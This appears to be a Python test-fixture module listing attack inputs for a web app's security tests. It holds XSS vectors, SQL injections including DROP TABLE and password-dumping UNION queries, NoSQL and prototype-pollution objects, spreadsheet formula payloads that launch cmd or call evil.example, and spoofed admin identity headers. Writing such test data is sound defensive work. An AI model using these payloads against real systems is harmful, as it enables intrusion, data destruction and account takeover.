"""What attackers type. Every list is data: a payload more is a line more."""

from typing import Any

# Each would call `pwned()` (tests/attacks/test_in_a_browser.py lays it in wait), wherever it came to run.
_RUN = "pwned()"
XSS: list[str] = [
    f"<script>{_RUN}</script>", f"<ScRiPt>{_RUN}</sCrIpT>", f"<script\n>{_RUN}</script\n>", f"<script src=data:,{_RUN}></script>",
    f"<script/x>{_RUN}</script>", f"<scr<script>ipt>{_RUN}</scr</script>ipt>", f"\"><script>{_RUN}</script>", f"'><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>", f"</textarea><script>{_RUN}</script>", f"</style><script>{_RUN}</script>", f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>", f"</script><script>{_RUN}</script>", f"<img src=x onerror={_RUN}>", f"<img src=x onerror='{_RUN}'>",
    f"<img src=\"x\" onerror=\"{_RUN}\"/>", f"<IMG SRC=x OnErRoR={_RUN}>", f"<img/src=x/onerror={_RUN}>", f"<img src=x onerror\n=\n{_RUN}>",
    f"<img src=`x` onerror={_RUN}>", f"<img src onerror={_RUN}>", f"<img srcset=x onerror={_RUN}>", f"<image src=x onerror={_RUN}>",
    f"<img src=x:x onerror={_RUN}//", f"<img src=x onload={_RUN} onerror={_RUN}", f"<svg onload={_RUN}>", f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>", f"<svg><g onload={_RUN}></g></svg>", f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=\"javascript:{_RUN}\"><text y=20>x</text></a></svg>", f"<svg><use href=\"data:image/svg+xml,<svg id=x onload={_RUN}>#x\">",
    f"<svg><set attributeName=onmouseover to={_RUN}>", f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>", f"<math href=\"javascript:{_RUN}\">x</math>",
    f"<math><mi//xlink:href=\"data:x,<script>{_RUN}</script>\">", f"<body onload={_RUN}>", f"<body onpageshow={_RUN}>",
    f"<iframe src=\"javascript:{_RUN}\"></iframe>", f"<iframe srcdoc=\"<script>parent.{_RUN}</script>\"></iframe>",
    f"<iframe onload={_RUN}></iframe>", f"<object data=\"javascript:{_RUN}\">", f"<embed src=\"javascript:{_RUN}\">",
    f"<object data=\"data:text/html,<script>opener.{_RUN}</script>\">", f"<a href=\"javascript:{_RUN}\">x</a>",
    f"<a href=\"JaVaScRiPt:{_RUN}\">x</a>", f"<a href=\" javascript:{_RUN}\">x</a>", f"<a href=\"java\tscript:{_RUN}\">x</a>",
    f"<a href=\"&#106;avascript:{_RUN}\">x</a>", f"<a href=\"data:text/html,<script>{_RUN}</script>\">x</a>", f"<a href=\"vbscript:{_RUN}\">x</a>",
    f"<a onmouseover={_RUN}>x</a>", f"<form action=\"javascript:{_RUN}\"><input type=submit></form>", f"<form><button formaction=\"javascript:{_RUN}\">x",
    f"<isindex action=\"javascript:{_RUN}\">", f"<input onfocus={_RUN} autofocus>", f"<select onfocus={_RUN} autofocus>",
    f"<textarea onfocus={_RUN} autofocus>", f"<button onfocus={_RUN} autofocus>", f"<keygen onfocus={_RUN} autofocus>",
    f"<details open ontoggle={_RUN}>", f"<video src=x onerror={_RUN}></video>", f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}></audio>", f"<marquee onstart={_RUN}>x</marquee>", f"<meter onmouseover={_RUN}>0</meter>",
    f"<div onpointerenter={_RUN} style=\"position:fixed;inset:0\">x</div>", f"<div style=\"animation-name:x\" onanimationstart={_RUN}>",
    f"<style>@keyframes x{{}}</style><b style=\"animation-name:x\" onanimationend={_RUN}></b>", f"<style>@import 'javascript:{_RUN}';</style>",
    "<style>*{display:none!important}</style>", f"<link rel=stylesheet href=\"javascript:{_RUN}\">", f"<link rel=import href=\"data:text/html,<script>{_RUN}</script>\">",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{_RUN}\">", f"<meta http-equiv=\"refresh\" content=\"0;data:text/html,<script>{_RUN}</script>\">",
    "<base href=\"https://evil.example/\">", f"<template><img src=x onerror={_RUN}></template>", f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">",
    f"<table background=\"javascript:{_RUN}\">", f"<td background=\"javascript:{_RUN}\">", f"<bgsound src=\"javascript:{_RUN}\">",
    f"<xss onclick={_RUN} tabindex=1 id=x>x</xss>", f"<x contenteditable onblur={_RUN}>x", f"<x oncut={_RUN}>x", f"<?xml-stylesheet href=\"javascript:{_RUN}\"?>",
    f"<![CDATA[<script>{_RUN}</script>]]>", f"<!--<img src=\"--><img src=x onerror={_RUN}//\">", f"<comment><img src=\"</comment><img src=x onerror={_RUN}//\">",
    f"javascript:{_RUN}", f"javascript://%0a{_RUN}", f"jav&#x09;ascript:{_RUN}", "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    f"\" onmouseover={_RUN} x=\"", f"' onfocus={_RUN} autofocus x='", f"` onerror={_RUN} `", f"\" autofocus onfocus={_RUN} x=\"",
    f"${{{_RUN}}}", f"{{{{{_RUN}}}}}", f"{{{{constructor.constructor('{_RUN}')()}}}}", f"#{{{_RUN}}}", f"<%= {_RUN} %>",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e", f"&lt;script&gt;{_RUN}&lt;/script&gt;", f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"%3Cscript%3E{_RUN}%3C/script%3E", f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-", f"\x3cscript\x3e{_RUN}\x3c/script\x3e", f"＜script＞{_RUN}＜/script＞",
    f"[x](javascript:{_RUN})", f"[x](JaVaScRiPt:{_RUN})", f"![x](javascript:{_RUN})", f"![x](x \"\\\" onerror={_RUN} x=\\\"\")", f"[x](data:text/html,<script>{_RUN}</script>)",
    f"<javascript:{_RUN}>", f"[x]: javascript:{_RUN}\n[x]", f"`<script>{_RUN}</script>`", f"```html\n<script>{_RUN}</script>\n```", f"[a](\"onmouseover={_RUN}\")",
    f"[x](https://a.example\"onmouseover={_RUN})", f"https://a.example/\"onmouseover={_RUN}//", f"<https://a.example/\"onmouseover={_RUN}//>", f"mailto:a@b.example\"onmouseover={_RUN}//",
]  # fmt: skip

SQL: list[str] = [
    "'", "''", "\"", "\\", "';", "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "') OR ('1'='1", "1 OR 1=1", "1; DROP TABLE message;--",
    "'; DELETE FROM conversation; --", "' UNION SELECT NULL--", "' UNION SELECT password FROM account--", "id; SELECT pg_sleep(9)", "'||pg_sleep(9)||'",
    "(SELECT 1/0)", "1/0", "opened_at; DROP TABLE message", "-opened_at, (SELECT 1/0)", "CASE WHEN 1=1 THEN id ELSE alias END", "%27 OR 1=1",
    "%", "_", "%%", "%s", "%(acc_user)s", "{visible}", "$1", ":1", "?", "E'\\x27'", "$$", "$x$;SELECT 1;$x$", "/**/OR/**/1=1", "\u02bc OR 1=1", "\uff07 OR 1=1",
]  # fmt: skip

NO_TEXT: list[Any] = [
    {"$ne": None}, {"$gt": ""}, {"$regex": ".*"}, {"$where": "1"}, {"$or": [{}, {"a": 1}]}, {"$contains": ""}, {"toString": 1}, {"__proto__": {"admin": True}},
    ["a"], [], [["a"]], [None], {}, {"a": {"b": {}}}, True, False, None, 0, 1, -1, 1e308, 2**70,
]  # fmt: skip

FORMULAS: list[str] = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\")", "\t=1+1", "\r=1+1", "=IMPORTXML(\"https://evil.example\",\"/\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
]  # fmt: skip

FOREIGN_ORIGINS: list[str] = [
    "https://evil.example", "http://evil.example", "null", "http://localhost.evil.example", "http://127.0.0.1.evil.example", "http://evil.example#localhost",
    "http://localhost:1", "https://localhost", "http://127.0.0.1:1", "file://", "chrome-extension://abc", "http://[::1]:1", "HTTP://EVIL.EXAMPLE", "http://0.0.0.0",
]  # fmt: skip

IDENTITY_HEADERS: dict[str, str] = {
    "X-Forwarded-User": "admin@demo.test", "X-Remote-User": "admin@demo.test", "Remote-User": "admin@demo.test", "X-Auth-Request-User": "admin@demo.test",
    "X-Auth-Request-Email": "admin@demo.test", "X-Authenticated-User": "admin@demo.test", "X-User": "admin", "X-User-Id": "1", "X-Email": "admin@demo.test",
    "X-Webauth-User": "admin", "X-Ssl-Client-Verify": "SUCCESS", "Ssl-Client-Subject-Dn": "CN=admin", "X-Amzn-Oidc-Identity": "admin",
    "X-Goog-Authenticated-User-Email": "admin@demo.test", "Cf-Access-Authenticated-User-Email": "admin@demo.test", "X-Ms-Client-Principal-Name": "admin",
    "X-Forwarded-For": "127.0.0.1", "X-Real-Ip": "127.0.0.1", "Forwarded": "for=127.0.0.1", "True-Client-Ip": "127.0.0.1", "X-Client-Ip": "127.0.0.1",
    "X-Cluster-Client-Ip": "127.0.0.1", "X-Originating-Ip": "127.0.0.1", "X-Forwarded-Host": "localhost", "X-Original-Url": "/health/live",
    "X-Rewrite-Url": "/health/live", "X-Http-Method-Override": "GET", "X-Method-Override": "GET", "X-Role": "admin", "X-Scope": "all", "X-Admin": "true",
    "Cookie": "ventanilla_session=admin", "Authorization": "Basic YWRtaW46YWRtaW4=", "Proxy-Authorization": "Bearer x", "X-Api-Key": "x", "X-Csrf-Token": "x",
    "Referer": "http://localhost/console/", "Origin": "http://localhost", "User-Agent": "kube-probe/1.0", "X-Forwarded-Proto": "https",
}  # fmt: skip
